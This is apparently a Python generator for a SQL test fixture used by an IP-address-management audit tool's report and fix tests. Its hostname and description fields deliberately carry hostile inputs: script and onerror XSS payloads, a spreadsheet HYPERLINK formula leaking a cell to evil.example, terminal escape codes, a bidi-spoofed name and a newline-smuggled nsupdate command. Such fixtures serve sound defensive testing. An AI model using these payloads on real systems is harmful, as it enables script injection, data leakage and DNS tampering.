#!/usr/bin/env python3
"""Writes fixture.sql: a fixed store (runs, sources, subnets, inventory, DNS,
observations and two audit runs with findings) for the report/fix golden
tests. Hostile strings are deliberate. Zone data matches the BIND lab zone in
tests/lab/test_fix_nsupdate.sh. Run: python3 gen_fixture.py > fixture.sql"""
import ipaddress, json, sys

# --t0 N: shift every time to end at N (a live store for `ipdrift audit`);
# --no-findings: leave out the audit runs and findings (audit makes them);
# --no-answers: leave out the DNS answers (resolve makes them);
# --no-zones: leave out the zone records (ipdrift import zone makes them).
T0 = 1700000000  # 2023-11-14T22:13:20Z
NO_FINDINGS = "--no-findings" in sys.argv
NO_ANSWERS = "--no-answers" in sys.argv   # leave dns_answers to `ipdrift resolve`
NO_ZONES = "--no-zones" in sys.argv       # leave dns_records to `ipdrift import zone`
if "--t0" in sys.argv:
    T0 = int(sys.argv[sys.argv.index("--t0") + 1])

def b(a):
    ip = ipaddress.ip_address(a)
    raw = (b'\0' * 10 + b'\xff\xff' + ip.packed) if ip.version == 4 else ip.packed
    return "X'" + raw.hex().upper() + "'"

def q(s):
    if s is None:
        return "NULL"
    if isinstance(s, bytes):
        return "CAST(X'" + s.hex().upper() + "' AS TEXT)"
    if isinstance(s, (int, float)):
        return str(s)
    return "'" + s.replace("'", "''") + "'"

out = []
def ins(table, **kw):
    out.append("INSERT INTO %s (%s) VALUES (%s);" % (
        table, ", ".join(kw), ", ".join(q(v) if not (isinstance(v, str) and v.startswith("X'")) else v
                                        for v in kw.values())))

XSS = "<script>document.title='PWNED-SCRIPT'</script>"
IMG = "<img src=x onerror=\"document.title='PWNED-IMG'\">"
REMOTE = "<img src=\"http://127.0.0.1:18999/pwned.png\"><link rel=stylesheet href=\"http://127.0.0.1:18999/x.css\">"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESC = "\x1b]0;owned\x07\x1b[2Jesc-host"
BIDI = "user\u202etxt.exe"
INJECT = "evil.example.test. 300 A 192.0.2.58\nupdate delete web.example.test. A\nupdate add z"

# runs
ins("runs", id=1, kind="import", started=T0 - 7200, finished=T0 - 7190, status="ok", duration_ms=10000)
ins("runs", id=2, kind="sweep", started=T0 - 3600, finished=T0 - 3590, status="ok", iface="lab0",
    sensor="s1", sent=512, received=9, duration_ms=10000)
if not NO_FINDINGS: ins("runs", id=3, kind="audit", started=T0 - 3500, finished=T0 - 3499, status="ok", duration_ms=800)
ins("runs", id=4, kind="resolve", started=T0 - 60, finished=T0 - 50, status="ok", duration_ms=10000)
if not NO_FINDINGS: ins("runs", id=5, kind="audit", started=T0, finished=T0 + 1, status="ok", duration_ms=1200,
    args="audit --window 7d")

# sources
ins("sources", id=1, name="netbox-ipam", kind="ipam", format="netbox", path="/srv/ipam/netbox.csv",
    digest="sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", imported=T0 - 7200, rows=7)
ins("sources", id=2, name="dhcpd", kind="leases", format="isc-dhcpd", path="/var/lib/dhcp/dhcpd.leases",
    digest="sha256:60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752", imported=T0 - 7200, rows=2)
if not NO_ZONES: ins("sources", id=3, name="zone-example", kind="zone", format="bind", path="/srv/zones/db.example.test",
    digest="sha256:fd61a03af4f77d870fc21e05e7e80678095c92d808cfb3b5c279ee04c74aca13", imported=T0 - 7200, rows=9)

# subnets
ins("subnets", id=1, source_id=1, family=4, lo=b("192.0.2.0"), hi=b("192.0.2.255"), prefix_len=24,
    cidr="192.0.2.0/24", vlan=10, status="active", description="lab servers", threshold=80)
ins("subnets", id=2, source_id=1, family=4, lo=b("198.51.100.0"), hi=b("198.51.100.15"), prefix_len=28,
    cidr="198.51.100.0/28", vlan=20, status="active", description="printers <b>&amp;</b>", threshold=50)
ins("subnets", id=3, source_id=1, family=6, lo=b("2001:db8:0:1::"), hi=b("2001:db8:0:1:ffff:ffff:ffff:ffff"),
    prefix_len=64, cidr="2001:db8:0:1::/64", vlan=10, status="active", description="lab v6")

# allocations (ext_id: the object ID of the NetBox export, what `fix --format
# netbox` writes into `id`); .41 is in a VRF
for i, (ip, plen, vrf, mac, host, st, desc, ext_id) in enumerate([
        ("192.0.2.10", 24, "", "52:54:00:00:00:10", "web.example.test", "active", None, "1010"),
        ("192.0.2.11", 24, "", "52:54:00:00:00:11", "app.example.test", "active", None, "1011"),
        ("192.0.2.20", 24, "", "52:54:00:00:00:20", "host1.example.test", "active", None, "1020"),
        ("192.0.2.40", 24, "", "52:54:00:00:00:40", "gone.example.test", "active", None, "1040"),
        ("2001:db8:0:1::20", 64, "", "52:54:00:00:00:20", "host1.example.test", "active", None, "1120"),
        ("198.51.100.5", 28, "", "52:54:00:00:01:05", FORMULA, "active", "printer, 2nd floor", "2005"),
        ("192.0.2.41", 24, "blue", None, "spare.example.test", "active", "=spare box", "1041")]):
    ins("allocations", source_id=1, vrf=vrf, ip=b(ip), ip_text=ip, prefix_len=plen, mac=mac,
        hostname=host, status=st, description=desc, line=i + 2, ext_id=ext_id)
ins("leases", source_id=2, ip=b("198.51.100.7"), ip_text="198.51.100.7", mac="02:11:22:33:44:55",
    hostname=XSS, starts=T0 - 86400, ends=T0 + 86400, state="active", active=1, line=12)
ins("leases", source_id=2, ip=b("198.51.100.9"), ip_text="198.51.100.9", mac="02:00:00:00:00:09",
    hostname=REMOTE, starts=T0 - 86400, ends=T0 + 86400, state="active", active=1, line=28)
ins("leases", source_id=2, ip=b("198.51.100.8"), ip_text="198.51.100.8", mac="52:54:00:00:01:08",
    hostname=ESC, starts=T0 - 86400, ends=T0 + 86400, state="active", active=1, line=20)

# zone data (matches the lab's BIND zones)
for zone, owner, typ, rdata, ip in [
        ("example.test.", "web.example.test.", "A", "192.0.2.10", "192.0.2.10"),
        ("example.test.", "web.example.test.", "AAAA", "2001:db8:0:1::10", "2001:db8:0:1::10"),
        ("example.test.", "old.example.test.", "A", "192.0.2.99", "192.0.2.99"),
        ("example.test.", "app.example.test.", "A", "192.0.2.11", "192.0.2.11"),
        ("2.0.192.in-addr.arpa.", "10.2.0.192.in-addr.arpa.", "PTR", "web.example.test.", "192.0.2.10"),
        ("2.0.192.in-addr.arpa.", "11.2.0.192.in-addr.arpa.", "PTR", "wrong.example.test.", "192.0.2.11"),
        ("2.0.192.in-addr.arpa.", "99.2.0.192.in-addr.arpa.", "PTR", "old.example.test.", "192.0.2.99"),
        ("1.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa.",
         "0.1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.1.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa.", "PTR",
         "web.example.test.", "2001:db8:0:1::10")]:
    if NO_ZONES:
        continue
    ins("dns_records", source_id=3, zone=zone, owner=owner, ttl=3600, type=typ, rdata=rdata, ip=b(ip),
        ip_text=ip, target=rdata if typ == "PTR" else None)

# live answers
for qname, qtype, status, ip, name in [
        ("10.2.0.192.in-addr.arpa.", "PTR", "ok", "192.0.2.10", "web.example.test."),
        ("11.2.0.192.in-addr.arpa.", "PTR", "ok", "192.0.2.11", "wrong.example.test."),
        # multi-PTR: .11 has two names, neither the IPAM's; .10 has the IPAM
        # name and a stray one that does not resolve back
        ("11.2.0.192.in-addr.arpa.", "PTR", "ok", "192.0.2.11", "other.example.test."),
        ("10.2.0.192.in-addr.arpa.", "PTR", "ok", "192.0.2.10", "stray.example.test."),
        ("stray.example.test.", "A", "nxdomain", None, "stray.example.test."),
        ("20.2.0.192.in-addr.arpa.", "PTR", "nxdomain", "192.0.2.20", None),
        ("7.100.51.198.in-addr.arpa.", "PTR", "ok", "198.51.100.7", IMG),
        ("8.100.51.198.in-addr.arpa.", "PTR", "ok", "198.51.100.8", BIDI),
        ("host1.example.test.", "A", "nxdomain", None, "host1.example.test."),
        ("old.example.test.", "A", "ok", "192.0.2.99", "old.example.test."),
        ("99.2.0.192.in-addr.arpa.", "PTR", "ok", "192.0.2.99", "old.example.test."),
        ("0.2.0.0.0.0.0.0.0.0.0.0.0.0.0.0.1.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa.", "PTR", "nxdomain",
         "2001:db8:0:1::20", None)]:
    if NO_ANSWERS:
        continue
    ins("dns_answers", run_id=4, qname=qname, qtype=qtype, status=status, ip=b(ip) if ip else None,
        ip_text=ip, name=name, ttl=3600 if status == "ok" else None, server="127.0.0.1#10053", at=T0 - 55)

# observations
for ip, mac, method, vlan, fs, ls, cnt in [
        ("192.0.2.10", "52:54:00:00:00:10", "arp-active", 10, T0 - 3600, T0 - 3590, 3),
        ("192.0.2.10", "52:54:00:00:00:10", "arp-passive", 10, T0 - 86400, T0 - 120, 40),
        ("192.0.2.11", "52:54:00:00:00:11", "arp-active", 10, T0 - 3600, T0 - 3590, 1),
        ("192.0.2.20", "52:54:00:00:00:20", "arp-active", 10, T0 - 3600, T0 - 3590, 2),
        ("2001:db8:0:1::20", "52:54:00:00:00:20", "nd-passive", 10, T0 - 3000, T0 - 100, 5),
        ("192.0.2.30", "52:54:00:00:00:30", "arp-active", 10, T0 - 3600, T0 - 3590, 1),
        ("192.0.2.30", "52:54:00:00:00:31", "arp-active", 10, T0 - 3600, T0 - 3590, 1),
        ("192.0.2.66", "02:aa:bb:cc:dd:ee", "arp-passive", 10, T0 - 600, T0 - 60, 7),
        ("198.51.100.5", "52:54:00:00:01:99", "arp-active", 20, T0 - 3600, T0 - 3590, 1),
        ("198.51.100.7", "02:11:22:33:44:55", "dhcp", 20, T0 - 5000, T0 - 4000, 2),
        ("198.51.100.8", "52:54:00:00:01:08", "dhcp", 20, T0 - 5000, T0 - 4000, 2),
        ("198.51.100.9", "02:00:00:00:00:09", "dhcp", 20, T0 - 5000, T0 - 4000, 1)]:
    ins("observations", ip=b(ip), ip_text=ip, family=6 if ":" in ip else 4, mac=mac, vlan=vlan,
        iface="lab0", sensor="s1", method=method, first_seen=fs, last_seen=ls, count=cnt, first_run=2, last_run=2)
# a DHCP host name seen on the wire (listen): raw bytes with NUL and ESC inside
out.append("INSERT INTO events (run_id, at, kind, ip, ip_text, mac, vlan, iface, detail, raw) VALUES "
           "(2, %d, 'dhcp hostname', %s, '198.51.100.8', '52:54:00:00:01:08', 20, 'lab0', "
           "'{\"hostname\":null,\"flags\":\"control\"}', X'%s');"
           % (T0 - 4500, b("198.51.100.8"), b"wire\x00nul\x1b[31mred".hex().upper()))
ins("coverage", run_id=2, lo=b("192.0.2.0"), hi=b("192.0.2.255"), vlan=10, iface="lab0", active=1, at=T0 - 3600)
ins("coverage", run_id=2, lo=b("198.51.100.0"), hi=b("198.51.100.15"), vlan=20, iface="lab0", active=1, at=T0 - 3600)
ins("coverage", run_id=2, lo=b("2001:db8:0:1::"), hi=b("2001:db8:0:1:ffff:ffff:ffff:ffff"), vlan=10, iface="lab0",
    active=0, at=T0 - 3600)

def obs(ip, mac, method="arp-active", vlan=10, fs=T0 - 3600, ls=T0 - 3590, count=1):
    return {"ip": ip, "mac": mac, "vlan": vlan, "iface": "lab0", "sensor": "s1", "method": method,
            "first_seen": fs, "last_seen": ls, "count": count}

def rec(kind, source, line, ip, mac=None, hostname=None, status="active"):
    return {"kind": kind, "source": source, "line": line, "ip": ip, "mac": mac, "hostname": hostname, "status": status}

def dns(qname, qtype, status, answer=None):
    return {"qname": qname, "qtype": qtype, "status": status, "answer": answer, "ttl": 3600,
            "server": "127.0.0.1#10053", "at": T0 - 55}

def finding(run, rule, *a, **kw):
    if not NO_FINDINGS:
        finding_(run, rule, *a, **kw)

def finding_(run, rule, sev, kind, subject, state, summary, ev, fix=None, first_run=None, sup=0, reason=None):
    ins("findings", run_id=run, fingerprint="%s|%s" % (rule, subject), rule=rule, severity=sev, subject_kind=kind,
        subject=subject, state=state, first_run=first_run or run, suppressed=sup, suppress_reason=reason,
        summary=summary, evidence=json.dumps(ev, ensure_ascii=False) if isinstance(ev, dict) else ev,
        fix=json.dumps(fix, ensure_ascii=False) if fix is not None else None)

# previous audit (run 3)
finding(3, "missing-ptr", "medium", "ip", "192.0.2.20", "new", "192.0.2.20 (host1.example.test) has no PTR",
        {"dns": [dns("20.2.0.192.in-addr.arpa.", "PTR", "nxdomain")]})
finding(3, "stale-allocation", "low", "ip", "192.0.2.40", "new", "192.0.2.40 allocated, not seen for 30 days",
        {"records": [rec("allocation", "netbox-ipam", 5, "192.0.2.40", "52:54:00:00:00:40", "gone.example.test")]})
finding(3, "random-mac", "info", "mac", "02:aa:bb:cc:dd:ee", "new", "locally administered MAC 02:aa:bb:cc:dd:ee",
        {"observations": [obs("192.0.2.66", "02:aa:bb:cc:dd:ee", "arp-passive")]})

# this audit (run 5)
finding(5, "ip-conflict", "critical", "ip", "192.0.2.30", "new", "192.0.2.30 claimed by 2 MACs",
        {"observations": [obs("192.0.2.30", "52:54:00:00:00:30"), obs("192.0.2.30", "52:54:00:00:00:31")],
         "events": [{"kind": "ip conflict", "at": T0 - 3590, "ip": "192.0.2.30", "mac": "52:54:00:00:00:30",
                     "other_mac": "52:54:00:00:00:31", "vlan": 10, "iface": "lab0"}],
         "details": {"macs": 2}})
finding(5, "rogue-host", "high", "ip", "192.0.2.66", "new", "192.0.2.66 seen on the wire, not in the IPAM",
        {"observations": [obs("192.0.2.66", "02:aa:bb:cc:dd:ee", "arp-passive", count=7)]},
        {"ipam": [{"op": "register", "ip": "192.0.2.66", "mac": "02:aa:bb:cc:dd:ee", "hostname": None,
                   "status": "active", "description": "discovered by arp-passive on lab0 vlan 10",
                   "vrf": ""}]})
finding(5, "rogue-host", "high", "ip", "198.51.100.7", "new", "198.51.100.7 leased to " + XSS,
        {"observations": [obs("198.51.100.7", "02:11:22:33:44:55", "dhcp", 20)],
         "records": [rec("lease", "dhcpd", 12, "198.51.100.7", "02:11:22:33:44:55", XSS)],
         "dns": [dns("7.100.51.198.in-addr.arpa.", "PTR", "ok", IMG)]},
        {"ipam": [{"op": "register", "ip": "198.51.100.7", "mac": "02:11:22:33:44:55", "hostname": XSS,
                   "status": "dhcp", "description": "discovered by dhcp lease; hostname " + XSS}]})
finding(5, "mac-mismatch", "high", "ip", "198.51.100.5", "new",
        "198.51.100.5 recorded with 52:54:00:00:01:05, seen with 52:54:00:00:01:99 " + BIDI,
        {"observations": [obs("198.51.100.5", "52:54:00:00:01:99", vlan=20)],
         "records": [rec("allocation", "netbox-ipam", 7, "198.51.100.5", "52:54:00:00:01:05", FORMULA)]},
        {"ipam": [{"op": "set-mac", "ip": "198.51.100.5", "mac": "52:54:00:00:01:99", "hostname": FORMULA,
                   "status": "active", "description": "MAC seen by arp-active on lab0 vlan 20"}]})
finding(5, "missing-ptr", "medium", "ip", "192.0.2.20", "ongoing", "192.0.2.20 (host1.example.test) has no PTR",
        {"observations": [obs("192.0.2.20", "52:54:00:00:00:20")],
         "records": [rec("allocation", "netbox-ipam", 4, "192.0.2.20", "52:54:00:00:00:20", "host1.example.test")],
         "dns": [dns("20.2.0.192.in-addr.arpa.", "PTR", "nxdomain")]},
        {"dns": [{"op": "add", "zone": None, "name": "20.2.0.192.in-addr.arpa.", "type": "PTR",
                  "value": "host1.example.test.", "old": None}]}, first_run=3)
finding(5, "missing-ptr", "medium", "ip", "2001:db8:0:1::20", "new",
        "2001:db8:0:1::20 (host1.example.test) has no PTR",
        {"observations": [obs("2001:db8:0:1::20", "52:54:00:00:00:20", "nd-passive")],
         "records": [rec("allocation", "netbox-ipam", 6, "2001:db8:0:1::20", "52:54:00:00:00:20", "host1.example.test")]},
        {"dns": [{"op": "add", "zone": None, "ip": "2001:db8:0:1::20", "type": "PTR",
                  "value": "host1.example.test.", "old": None}]})
finding(5, "missing-forward", "medium", "name", "host1.example.test", "new",
        "host1.example.test has no A record for 192.0.2.20",
        {"records": [rec("allocation", "netbox-ipam", 4, "192.0.2.20", "52:54:00:00:00:20", "host1.example.test")],
         "dns": [dns("host1.example.test.", "A", "nxdomain")]},
        {"dns": [{"op": "add", "zone": "example.test.", "name": "host1.example.test.", "type": "A",
                  "value": "192.0.2.20", "old": None}]})
finding(5, "missing-forward", "medium", "name", INJECT, "new", "allocation hostname is not a host name",
        {"records": [rec("allocation", "netbox-ipam", 9, "192.0.2.58", None, INJECT)]},
        {"dns": [{"op": "add", "zone": None, "name": INJECT + ".", "type": "A", "value": "192.0.2.58", "old": None},
                 {"op": "add", "zone": None, "name": "58.2.0.192.in-addr.arpa.", "type": "PTR",
                  "value": INJECT, "old": None}]})
# a PTR set of two names: the fix lists the whole set as its guard ("rrset"),
# replaces one name and deletes the other, in one message
PTR11 = ["wrong.example.test.", "other.example.test."]
finding(5, "name-mismatch", "medium", "ip", "192.0.2.11", "new",
        "192.0.2.11: IPAM says app.example.test, PTR says wrong.example.test.",
        {"records": [rec("allocation", "netbox-ipam", 3, "192.0.2.11", "52:54:00:00:00:11", "app.example.test")],
         "dns": [dns("11.2.0.192.in-addr.arpa.", "PTR", "ok", "wrong.example.test."),
                 dns("11.2.0.192.in-addr.arpa.", "PTR", "ok", "other.example.test.")]},
        {"dns": [{"op": "replace", "zone": "2.0.192.in-addr.arpa.", "name": "11.2.0.192.in-addr.arpa.",
                  "type": "PTR", "value": "app.example.test.", "old": "wrong.example.test.", "rrset": PTR11},
                 {"op": "delete", "zone": "2.0.192.in-addr.arpa.", "name": "11.2.0.192.in-addr.arpa.",
                  "type": "PTR", "value": "other.example.test.", "old": "other.example.test.", "rrset": PTR11}]})
finding(5, "subnet-exhaustion", "medium", "subnet", "198.51.100.0/28", "new",
        "198.51.100.0/28 is 62% used (threshold 50%)", {"details": {"used": 3, "size": 16, "threshold": 50}})
finding(5, "stale-dns", "low", "ip", "192.0.2.99", "ongoing",
        "old.example.test. -> 192.0.2.99: neither allocated nor seen",
        {"dns": [dns("old.example.test.", "A", "ok", "192.0.2.99"),
                 dns("99.2.0.192.in-addr.arpa.", "PTR", "ok", "old.example.test.")]},
        {"dns": [{"op": "delete", "zone": "example.test.", "name": "old.example.test.", "type": "A",
                  "value": None, "old": "192.0.2.99"},
                 {"op": "delete", "zone": None, "name": "99.2.0.192.in-addr.arpa.", "type": "PTR",
                  "value": None, "old": "old.example.test."}]}, first_run=3)
finding(5, "stale-allocation", "low", "ip", "192.0.2.40", "resolved", "192.0.2.40 allocated, not seen for 30 days",
        {"records": [rec("allocation", "netbox-ipam", 5, "192.0.2.40", "52:54:00:00:00:40", "gone.example.test")]},
        {"ipam": [{"op": "deprecate", "ip": "192.0.2.40", "mac": "52:54:00:00:00:40", "hostname": "gone.example.test",
                   "status": "deprecated", "description": "not seen since 2023-10-15"}]}, first_run=3)
finding(5, "stale-allocation", "low", "ip", "192.0.2.41", "new", "192.0.2.41 allocated, not seen in 3 sweeps",
        {"records": [rec("allocation", "netbox-ipam", 8, "192.0.2.41", None, "spare.example.test")]},
        {"ipam": [{"op": "deprecate", "ip": "192.0.2.41", "mac": None, "hostname": "spare.example.test",
                   "status": "deprecated", "description": "not seen in 3 active sweeps",
                   "source": "netbox-ipam", "vrf": "blue"}]})
finding(5, "random-mac", "info", "mac", "02:aa:bb:cc:dd:ee", "ongoing", "locally administered MAC 02:aa:bb:cc:dd:ee",
        {"observations": [obs("192.0.2.66", "02:aa:bb:cc:dd:ee", "arp-passive")]}, first_run=3, sup=1,
        reason="lab VMs use random MACs")
finding(5, "rogue-host", "high", "ip", "198.51.100.9", "new", "198.51.100.9 leased to " + REMOTE,
        {"observations": [obs("198.51.100.9", "02:00:00:00:00:09", "dhcp", 20)],
         "records": [rec("lease", "dhcpd", 28, "198.51.100.9", "02:00:00:00:00:09", REMOTE)]})
finding(5, "unknown-vendor", "info", "mac", "52:54:00:00:01:08", "new", b"lease hostname \x1b]0;owned\x07\xff\xfe\xc0\xaf from 52:54:00:00:01:08",
        {"observations": [obs("198.51.100.8", "52:54:00:00:01:08", "dhcp", 20)],
         "records": [rec("lease", "dhcpd", 20, "198.51.100.8", "52:54:00:00:01:08", ESC)],
         "dns": [dns("8.100.51.198.in-addr.arpa.", "PTR", "ok", BIDI)]})

# the IPAM name is one PTR of two: only the stray one goes
finding(5, "forward-reverse-mismatch", "medium", "ip", "192.0.2.10", "new",
        "PTR of 192.0.2.10 names stray.example.test, which does not resolve back to it",
        {"records": [rec("allocation", "netbox-ipam", 2, "192.0.2.10", "52:54:00:00:00:10", "web.example.test")],
         "dns": [dns("10.2.0.192.in-addr.arpa.", "PTR", "ok", "stray.example.test."),
                 dns("stray.example.test.", "A", "nxdomain")]},
        {"dns": [{"op": "delete", "zone": None, "name": "10.2.0.192.in-addr.arpa.", "type": "PTR",
                  "value": "stray.example.test.", "old": "stray.example.test.",
                  "rrset": ["web.example.test.", "stray.example.test."]}]})

print("-- generated by gen_fixture.py; do not edit by hand")
print("BEGIN;")
print("\n".join(out))
print("COMMIT;")
